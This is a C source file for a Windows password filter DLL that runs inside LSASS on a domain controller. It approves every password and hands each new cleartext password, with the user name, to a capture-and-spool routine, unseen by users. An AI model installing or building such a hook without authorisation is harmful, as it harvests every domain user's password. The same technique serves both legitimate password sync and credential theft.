/*
 * The password filter: what LSASS calls on a domain controller. Facts: "Password Filter Functions" of the Windows API.
 *
 * It never objects to a password, and never fails: what could not be captured is counted (misses.h), and users change
 * their passwords as if it was not there.
 */
#include <windows.h>
#include <ntsecapi.h>

#include "crypto.h"
#include "freestanding.h"
#include "spool.h"
#include "taking.h"

BOOLEAN NTAPI InitializeChangeNotify(void);
BOOLEAN NTAPI PasswordFilter(PUNICODE_STRING name, PUNICODE_STRING full_name, PUNICODE_STRING password, BOOLEAN is_set);
NTSTATUS NTAPI PasswordChangeNotify(PUNICODE_STRING name, ULONG rid, PUNICODE_STRING password);
BOOL WINAPI DllMain(HINSTANCE self, DWORD reason, void *reserved);

/* Once, when LSASS starts. What fails here is tried again with the first change. */
BOOLEAN NTAPI InitializeChangeNotify(void) {
    (void)crypto_open();
    (void)spool_initialise();
    return TRUE;
}

/* Before a change: no opinion. */
BOOLEAN NTAPI PasswordFilter(PUNICODE_STRING name, PUNICODE_STRING full_name, PUNICODE_STRING password, BOOLEAN is_set) {
    (void)name;
    (void)full_name;
    (void)password;
    (void)is_set;
    return TRUE;
}

/* After a change. The strings are not terminated. */
NTSTATUS NTAPI PasswordChangeNotify(PUNICODE_STRING name, ULONG rid, PUNICODE_STRING password) {
    ULONGLONG now = now_filetime();
    struct outcome outcome = take(name, rid, password, now);
    if (outcome.reason != CAPTURED) {
        misses_count(outcome, now);
    }
    return 0; /* STATUS_SUCCESS */
}

/* It must not protect its own stack: the guard is made here. */
__attribute__((no_stack_protector)) BOOL WINAPI DllMain(HINSTANCE self, DWORD reason, void *reserved) {
    (void)reserved;
    if (reason == DLL_PROCESS_ATTACH) {
        guard_initialise();
        DisableThreadLibraryCalls(self);
    }
    return TRUE;
}
